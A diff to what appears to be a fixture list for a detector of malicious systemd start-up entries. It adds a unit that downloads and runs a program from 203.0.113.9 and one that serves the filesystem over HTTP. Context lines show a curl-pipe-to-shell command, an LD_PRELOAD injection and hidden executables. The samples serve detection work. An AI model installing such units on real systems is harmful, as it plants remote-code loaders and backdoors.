@@ -15,6 +15,8 @@ export const fifthStartUp: readonly Sign[] = [
 	unit('on-failure', 'a service that runs when another fails', 'fail-notify@.service', '[Service]\nExecStart=/var/lib/misc/.notify %i\n'),
 	unit('user-manager', 'a library in all that users start', 'user@.service.d/x.conf', '[Service]\nEnvironment=LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libgcwrap.so\n'),
 	unit('shell-by-env', 'a command that stands in a variable', 'queue-run.service', '[Service]\nEnvironment="CMD=curl -s http://203.0.113.9/k | sh"\nExecStart=/bin/sh -c "eval $CMD"\n'),
+	unit('fetch-then-run', 'a program fetched by one line and run by a later', 'netprobe.service', '[Service]\nExecStartPre=/usr/bin/curl -fso /usr/local/lib/netprobe http://203.0.113.9/k\nExecStartPre=/bin/chmod 755 /usr/local/lib/netprobe\nExecStart=/usr/local/lib/netprobe\n'),
+	unit('served-root', 'the whole system as pages', 'status-page.service', '[Service]\nExecStart=/usr/bin/python3 -m http.server 8099\n'),
 	file('control-drop-in', 'start-up', 'a drop-in where systemctl keeps its own', '/etc/systemd/system.control/cron.service.d/50-ExecStartPost.conf', '[Service]\nExecStartPost=/dev/shm/.c/x\n'),
 	file('attached-unit', 'start-up', 'a unit of a portable service', '/etc/systemd/system.attached/netd.service', '[Service]\nRootDirectory=/var/lib/portables/.netd\nExecStart=/netd\n'),
 	file('portable-image', 'start-up', 'a portable service as an image', '/var/lib/portables/netd.raw', Buffer.concat([Buffer.from('hsqs'), Buffer.alloc(900, 3)])),
